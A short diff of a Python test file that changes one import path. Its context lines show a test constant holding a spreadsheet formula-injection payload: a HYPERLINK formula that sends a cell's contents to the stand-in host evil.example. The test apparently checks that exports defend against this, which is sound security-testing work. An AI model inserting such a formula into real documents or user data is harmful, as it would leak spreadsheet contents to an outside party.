@@ -12,7 +12,7 @@ from engine import instances, templates
 from engine.db import Database
 from engine.org import OrgData, apply_org
 from tests.conftest import make_org
-from tests.integration.test_web_views import ROADMAP, signed_in, with_passwords
+from tests.helpers import ROADMAP, signed_in, with_passwords
 from web.app import create_app
 
 EVIL_SCHOOL = '=HYPERLINK("http://evil.example/?"&A3,"Открыть")'
